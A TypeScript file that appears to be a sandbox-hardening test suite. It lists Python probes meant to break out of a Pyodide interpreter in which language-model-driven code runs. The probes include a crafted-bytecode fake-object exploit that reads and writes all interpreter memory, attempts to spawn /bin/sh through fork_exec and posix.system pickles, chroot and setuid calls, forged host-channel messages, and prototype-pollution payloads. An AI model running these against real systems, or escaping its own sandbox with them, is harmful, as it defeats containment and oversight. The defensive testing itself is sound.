/** More ways out, which use the interpreter's internals. Same form as in `escape-probes.ts`. */
import type { ProbeKind } from "./probe-kind.ts";

/**
 * A bytearray over all of the interpreter's memory. Bytecode loads a constant from beyond its tuple, where a bytes object
 * holds the address of a hand-made object (CPython 3.14, 32 bits).
 */
const ALL_MEMORY = `
import struct
fake = struct.pack('<IIiIIIi', 1000, id(bytearray), 0x7fffffff, 0x7fffffff, 0, 0, 0)
holders = [struct.pack('<I', id(fake) + 16) * 4 for _ in range(100)]
consts = (None,)
place = next(h for h in sorted(holders, key=id) if id(h) > id(consts))
index = (id(place) + 16 - id(consts) - 16) // 4
import dis
op, ext, ret = dis.opmap['LOAD_CONST'], dis.opmap['EXTENDED_ARG'], dis.opmap['RETURN_VALUE']
code = bytes([dis.opmap['RESUME'], 0, ext, index >> 24 & 255, ext, index >> 16 & 255, ext, index >> 8 & 255, op, index & 255, ret, 0])
f = lambda: None
f.__code__ = f.__code__.replace(co_code=code, co_consts=consts, co_stacksize=4)
memory = f()
`;

export const DEEPER_PROBES: readonly ProbeKind[] = [
  {
    kind: "crafted bytecode and memory",
    probes: [
      [
        "look through all memory",
        `${ALL_MEMORY}m = bytes(memory[:1 << 24]); print('read', len(m)); i = m.find(b'secret' + b'-5b1f0c'); print(m[i:i + 13] if i >= 0 else '')`,
      ],
      ["write over all memory", `${ALL_MEMORY}\nfor at in range(1 << 16, 1 << 24, 64): memory[at] = 255`],
      ["write behind what is in use", `${ALL_MEMORY}\nmemory[29 << 20:(29 << 20) + 6] = b'LEAKED'`],
      [
        "unlock the closed modules in memory",
        `${ALL_MEMORY}
import _imp, importlib.machinery as machinery, sys
for name in ('js', 'pyodide_js', 'pyodide', '_pyodide', '_pyodide_core', '_ctypes', 'ctypes'): sys.modules.pop(name, None)
for start in range(0, 29 << 20, 1 << 20):
  at = bytes(memory[start:start + (1 << 20)]).find('\u00ffclosed\\0'.encode())
  if at >= 0: break
for number in range(12):
  memory[start + at:start + at + 9] = b'opened%02d\\0' % number
  try: module = _imp.create_builtin(machinery.ModuleSpec(f'opened{number:02}', machinery.BuiltinImporter))
  except (ImportError, SystemError) as error: print(error); continue
  print(module)
  for lead in ('dlopen', 'JsProxy', 'run_js', 'fork_exec', 'socket'):
    if hasattr(module, lead): print('opened', lead)
  if hasattr(module, 'dlopen'): print('REACHED', module.dlopen(None, 0))
  if hasattr(module, 'fork_exec'): print('REACHED', module.fork_exec(['sh'], [b'/bin/sh'], True, (), None, None, -1, -1, -1, -1, -1, -1, -1, -1, False, False, -1, None, None, None, -1, None))
  if hasattr(module, 'socket'): print('REACHED', module.socket())`,
      ],
      [
        "call what no code calls",
        `${ALL_MEMORY}\nimport struct\nt = id(type(memory)); \nfor i in range(1, 4000, 97):\n  memory[t + 44:t + 48] = struct.pack('<I', i)\n  try: repr(memory)\n  except Exception: pass`,
      ],
      [
        "a code object with rubbish for tables",
        "f = lambda: 1 / 0\nf.__code__ = f.__code__.replace(co_linetable=bytes(range(256)), co_exceptiontable=bytes(range(256)))\nf()",
      ],
      [
        "a call of what is no object",
        "import struct, dis\nfake = struct.pack('<8I', 1000, 0x1000, *[0x41414141] * 6); holders = [struct.pack('<I', id(fake) + 16) * 4 for _ in range(100)]\nconsts = (None,)\nplace = next(h for h in sorted(holders, key=id) if id(h) > id(consts)); index = (id(place) - id(consts)) // 4\nop, ext = dis.opmap['LOAD_CONST'], dis.opmap['EXTENDED_ARG']\nf = lambda: None\nf.__code__ = f.__code__.replace(co_code=bytes([dis.opmap['RESUME'], 0, ext, index >> 24 & 255, ext, index >> 16 & 255, ext, index >> 8 & 255, op, index & 255, dis.opmap['PUSH_NULL'], 0, dis.opmap['CALL'], 0, dis.opmap['RETURN_VALUE'], 0]), co_consts=consts, co_stacksize=8)\nf()",
      ],
      [
        "every opcode that has no name, and intrinsics without a number",
        "import dis\nm = dis.opmap\nfor op in range(150, 256):\n  if dis.opname[op].startswith('<'):\n    f = lambda: None\n    f.__code__ = f.__code__.replace(co_code=bytes([m['RESUME'], 0, op, 0, m['LOAD_CONST'], 0, m['RETURN_VALUE'], 0]), co_consts=(None,))\n    try: f()\n    except SystemError: pass\nf.__code__ = f.__code__.replace(co_code=bytes([m['RESUME'], 0, m['LOAD_CONST'], 0, m['CALL_INTRINSIC_1'], 200, m['RETURN_VALUE'], 0]), co_consts=(None,))\nf()",
      ],
      [
        "a code object with one byte turned, each in its turn",
        "import marshal, types\ndata = marshal.dumps(compile('[x for x in (1, 2)]', 'x', 'eval'))\nfor at in range(len(data)):\n  turned = bytearray(data); turned[at] ^= 0xff\n  try: exec(marshal.loads(bytes(turned)))\n  except Exception: pass",
      ],
    ],
  },
  {
    kind: "other interpreters and loaders",
    probes: [
      [
        "a subinterpreter",
        "import _interpreters as i\nn = i.create()\nprint(i.exec(n, \"import sys\\nfor m in ('js', 'pyodide_js', '_pyodide_core', '_ctypes', '_socket', '_posixsubprocess'):\\n  try: __import__(m); print('REACHED', m)\\n  except ImportError: pass\"))",
      ],
      [
        "frozen modules",
        "import _imp\nfor n in ('js', '_pyodide', '_pyodide_core'):\n  try: print('REACHED' if _imp.init_frozen(n) else '')\n  except ImportError: pass",
      ],
      ["a loader's data", "import json; print(json.__loader__.get_data('{file}'))"],
      [
        "SourceFileLoader",
        "import importlib.machinery as m; print(m.SourceFileLoader('x', '{file}').get_data('{file}'))",
      ],
      [
        "spec from a file",
        "import importlib.util as u; s = u.spec_from_file_location('x', '{file}'); m = u.module_from_spec(s); s.loader.exec_module(m); print('REACHED')",
      ],
      [
        "path hooks",
        "import sys\nclass H:\n  def __init__(self, p): pass\n  def find_spec(self, n, t=None): print('asked', n)\nsys.path_hooks.insert(0, H); sys.path_importer_cache.clear()\nimport js; print('REACHED')",
      ],
      [
        "every builtin module created anew",
        "import sys, _imp, importlib.machinery as m\nfor n in ('_pyodide_core', '_ctypes', '_posixsubprocess', '_socket', '_remote_debugging', '_testcapi'):\n  for t in (n, '_closed_', n + '.x', 'x.' + n):\n    try: r = _imp.create_builtin(m.ModuleSpec(t, m.BuiltinImporter)); print('REACHED' if hasattr(r, 'dlopen') or hasattr(r, 'fork_exec') or hasattr(r, 'JsProxy') or hasattr(r, 'socket') else '')\n    except ImportError: pass",
      ],
      [
        "pyodide's Python from the library's zip",
        "import asyncio, sys\nfor n in [n for n in sys.modules if n.partition('.')[0] in ('js', 'pyodide', '_pyodide', 'pyodide_js', '_pyodide_core', 'ctypes', '_ctypes')]: del sys.modules[n]\nfor n in ('pyodide.code', 'pyodide.ffi', 'pyodide.http', 'pyodide._state', '_pyodide._importhook', 'ctypes'):\n  try: m = __import__(n, fromlist=['x'])\n  except Exception: continue\n  for f in ('run_js', 'pyfetch', 'CDLL', 'register_js_module', 'register_js_finder'):\n    if hasattr(m, f):\n      try: print(n, f); r = getattr(m, f)('1'); print('REACHED', asyncio.run(r) if asyncio.iscoroutine(r) else r)\n      except BaseException as e: print(e)",
      ],
      [
        "a finder of JavaScript made by hand",
        "import sys\nfor n in list(sys.modules):\n  if n.startswith('_pyodide'): del sys.modules[n]\nfrom _pyodide._importhook import JsFinder, register_js_finder\nregister_js_finder()\nimport js; print('REACHED')",
      ],
    ],
  },
  {
    kind: "JavaScript",
    probes: [
      [
        "closed modules among the collector's objects",
        "import gc, types\ngc.unfreeze()\nclosed = ('js', 'pyodide', '_pyodide', 'pyodide_js', '_pyodide_core', 'ctypes', '_ctypes', '_posixsubprocess')\nfor o in gc.get_objects():\n  if isinstance(o, types.ModuleType) and len(vars(o)) and o.__name__.partition('.')[0] in closed: print('REACHED', o.__name__)\n  if isinstance(o, types.BuiltinFunctionType) and o.__module__ in closed: print('REACHED', o)\n  if type(o) is dict and any(callable(o.get(n)) for n in ('run_js', 'to_js', 'create_proxy', 'dlopen', 'fork_exec')): print('REACHED', list(o)[:5])",
      ],
      [
        "types of JavaScript's objects, made and called anyway",
        "import gc\ngc.unfreeze()\nclass A: pass\nfor t in [t for t in gc.get_objects() if isinstance(t, type) and t.__name__.startswith('Js')]:\n  a = A()\n  for make in (t, lambda: t.__new__(t), lambda: object.__new__(t), lambda: setattr(a, '__class__', t) or a, lambda: type('X', (t,), {})()):\n    try: print('REACHED', make().constructor)\n    except BaseException: pass\n  for n, v in list(vars(t).items()):\n    try: v.__get__(a, A)()\n    except BaseException: pass",
      ],
      [
        "the names that closed modules were given",
        "import _imp\nfor n in ('_closed_', '\\xffclosed', 'closed', '\\udcff', '', '\\0'):\n  if _imp.is_builtin(n): print('REACHED', n)",
      ],
      [
        "pickles that name what is closed",
        "import pickle\nfor p in (b'cpyodide.code\\nrun_js\\n.', b'c_pyodide_core\\nrun_js\\n.', b'cjs\\nprocess\\n.', b'c_ctypes\\ndlopen\\n(NI0\\ntR.', b'c_posixsubprocess\\nfork_exec\\n.', b'cposix\\nsystem\\n(S\"touch {folder}/reached\"\\ntR.'):\n  try: print('REACHED', pickle.loads(p))\n  except Exception: pass",
      ],
      [
        "pyodide's Python over a core made by hand",
        "import sys, types\nfor n in [n for n in sys.modules if n.partition('.')[0] in ('js', 'pyodide', '_pyodide', 'pyodide_js', '_pyodide_core')]: del sys.modules[n]\nfor n in ('_pyodide_core', 'pyodide_js', 'js'):\n  m = sys.modules[n] = types.ModuleType(n); m.__getattr__ = lambda n: (lambda *a, **k: None)\nimport pyodide.code\nr = pyodide.code.run_js('1'); print('REACHED' if r is not None else '')",
      ],
      ["remote debugging", "import sys; sys.remote_exec(1, '/tmp/x.py'); print('REACHED')"],
      [
        "a trampoline for perf",
        "import sys; sys.activate_stack_trampoline('perf'); print(open('/tmp/perf-%d.map' % 42).read())",
      ],
    ],
  },
  {
    kind: "descriptors and system calls",
    probes: [
      [
        "the channel under another number",
        "import os; d = os.dup(21068); os.write(d, b'J{}'); print('REACHED')",
      ],
      [
        "the channel as a file",
        "f = open(21068, 'r+b', buffering=0, closefd=False); f.write(b'J{}'); print('REACHED')",
      ],
      [
        "many vectors to the channel",
        "import os; n = os.writev(21068, [b'J', b'{\"kind\":', b'\"shell\"}']); print('REACHED' if b'error' not in os.read(21068, n) else '')",
      ],
      ["a place in the channel", "import os; os.pwrite(21068, b'J{}', 0); print('REACHED')"],
      [
        "the wake-up descriptor of signals",
        "import signal; signal.set_wakeup_fd(21068, warn_on_full_buffer=False)\nwhile True: pass",
      ],
      [
        "terminal controls",
        "import termios, fcntl, array\nfor fd in (0, 1, 2):\n  for r in (termios.TIOCGWINSZ, termios.TIOCSTI, 0x5451, 0x5452):\n    try: fcntl.ioctl(fd, r, array.array('b', [0] * 64), True)\n    except OSError: pass",
      ],
      [
        "another root",
        "import os; os.chroot('/proc'); os.setuid(0); os.setgid(0); print(open('{file}').read())",
      ],
      [
        "the limits of the process",
        "import resource; resource.setrlimit(resource.RLIMIT_NOFILE, (1 << 20, 1 << 20)); resource.prlimit(1, resource.RLIMIT_CPU)",
      ],
      [
        "a megabyte of entropy at once, and a gigabyte",
        "import os; os.urandom(1 << 20); os.getrandom(1 << 30)",
      ],
      ["set the clock", "import time; time.clock_settime(time.CLOCK_REALTIME, 0); print('REACHED')"],
      ["wait for the host's children", "import os; print('REACHED', os.waitpid(-1, os.WNOHANG))"],
      ["statfs of the host", "import os; print(os.statvfs('{file}'))"],
      [
        "a file as a library",
        "import sys, _imp, importlib.machinery as m\nopen('/tmp/x.so', 'wb').write(b'\\0asm\\1\\0\\0\\0')\n_imp.create_dynamic(m.ModuleSpec('x', None, origin='/tmp/x.so')); print('REACHED')",
      ],
      [
        "all of /proc and /dev",
        "import os\nfor base in ('/proc', '/dev'):\n  for folder, folders, files in os.walk(base):\n    for n in files + folders:\n      p = folder + '/' + n\n      try:\n        d = os.open(p, os.O_RDWR | os.O_NONBLOCK); os.write(d, b'x'); t = os.read(d, 64); print('REACHED' if t and n not in ('random', 'urandom') else '')\n      except OSError: pass\n      try: print(os.readlink(p), open(os.readlink(p), 'rb').read(64))\n      except (OSError, ValueError): pass",
      ],
      [
        "descriptors that wrap around to the channel",
        "import os\nfor d in (-1, 2**16 + 21068, 2**31 - 1, 2**31, 2**32 + 21068, -2**32 + 21068, 21068 - 2**31):\n  try: os.write(d, b'J{}'); print('REACHED')\n  except (OSError, OverflowError): pass",
      ],
      [
        "the channel mapped, polled, and sought",
        "import os, mmap, select, fcntl\nfor f in (lambda: mmap.mmap(21068, 10), lambda: select.select([21068], [], [], 0)[0], lambda: fcntl.fcntl(21068, fcntl.F_DUPFD, 3), lambda: os.lseek(21068, 0, 0), lambda: os.fstat(21068), lambda: os.ftruncate(21068, 0)):\n  try: print('REACHED' if f() else '')\n  except (OSError, ValueError): pass",
      ],
      [
        "the standard library written over, mapped and linked",
        "import os, mmap\nz = '/lib/python314.zip'\nfor f in (lambda: open(z, 'r+b').write(b'x'), lambda: os.truncate(z, 0), lambda: os.chmod(z, 0o777), lambda: mmap.mmap(os.open(z, 0), 0), lambda: os.symlink(z, '/tmp/z') or open('/tmp/z', 'r+b').write(b'x'), lambda: os.link(z, '/tmp/y')):\n  try: f(); print('REACHED')\n  except (OSError, AttributeError): pass\nos.rename('/lib', '/tmp/lib')",
      ],
      [
        "files with names that mean something to JavaScript",
        "import os\nos.chdir('/tmp')\nfor n in ('__proto__', 'constructor', 'toString', 'hasOwnProperty', '__defineGetter__'):\n  os.makedirs(n + '/__proto__/polluted'); open(n + '/then', 'w').write('x'); print('' if sorted(os.listdir(n)) == ['__proto__', 'then'] else n)\nfor n in os.listdir('.'): os.rename(n, n + '2')\nos._exit(1)",
      ],
    ],
  },
  {
    kind: "what crosses to the host",
    probes: [
      [
        "ids, budgets and numbers that are none, in a call",
        'import os\nfor b in (b\'{"id":-1,"type":"reply","value":1}\', b\'{"kind":"llm_query","batched":false,"prompts":["x"],"model":NaN}\', b\'{"kind":"llm_query","batched":false,"prompts":["x"],"model":1e999}\', b\'{"kind":"llm_query","kind":"shell","batched":false,"prompts":["x"],"model":null}\', b\'{"kind":"llm_query","batched":0,"prompts":["x"],"model":null}\', b\'{"kind":"rlm_query","batched":false,"prompts":["x"],"model":null,"contexts":[1e999]}\', b\'{"kind":"llm_query","batched":false,"prompts":{"length":1,"0":"x"},"model":null}\', b\'\\xff\\xfe\', b\'\'):\n  n = os.write(21068, b\'J\' + b); print(\'\' if b\'error\' in os.read(21068, n) else \'REACHED\')',
      ],
      [
        "keys that mean something to JavaScript, in an answer and in names",
        "for n in ('__proto__', 'constructor', 'toString', 'then'): globals()[n] = {'polluted': 1}\nanswer['content'] = {'__proto__': {'polluted': 1}, 'toJSON': 1, 'then': 1, 'x': float('nan'), 'y': 10**400}; answer['ready'] = True; SHOW_VARS()",
      ],
      [
        "a prototype in a context",
        "rlm_query('a', {'__proto__': {'polluted': 1}, 'constructor': {'prototype': {'polluted': 1}}})",
      ],
      [
        "a prototype as a tool",
        "import os\nfor n in ('constructor', '__proto__', 'toString', 'hasOwnProperty'):\n  b = b'H{\"name\":\"%s\",\"args\":{\"__proto__\":{\"polluted\":1}}}' % n.encode(); k = os.write(21068, b); print('REACHED' if b'error' not in os.read(21068, k) else '')",
      ],
      [
        "a lazy text's requests",
        "import os\nfor b in (b'T{}', b'T[]', b'Tnull', b'T{\"operation\":\"slice\",\"start\":0,\"end\":100}', b'T{\"__proto__\":{\"operation\":\"length\"}}', b'T' + b'[' * 90):\n  k = os.write(21068, b); r = os.read(21068, k); print('' if b'error' in r else 'REACHED')",
      ],
      [
        "surrogates and NULs as a prompt",
        "llm_query('\\ud800\\0\\udfff'); llm_query_batched(['\\0'] * 10_000, model=None)",
      ],
      [
        "an answer of ten million letters that lies",
        "class L(str):\n  def __len__(self): return 0\n  def __getitem__(self, k): return self\nanswer['content'] = L('x' * 10**7); answer['ready'] = True",
      ],
      [
        "forge what the report counts",
        "import sys\nclass N(int):\n  def __add__(self, o): return N(1 << 60)\n  __radd__ = __gt__ = __le__ = __add__\nsys.stdout.written = N(5); sys.stdout.head = ['x' * 10**7]",
      ],
      [
        "a report that never ends",
        "import sys\nclass N:\n  def __radd__(self, o):\n    while True: pass\n  __add__ = __radd__\nsys.stdout.written = N()",
      ],
      [
        "sleep for ever",
        "import time; time.sleep(8e9); time.sleep(8e9); import os, struct; os.write(21068, b'S' + struct.pack('<d', float('inf'))); os.write(21068, b'S' + struct.pack('<d', float('nan'))); print(time.time())",
      ],
    ],
  },
];
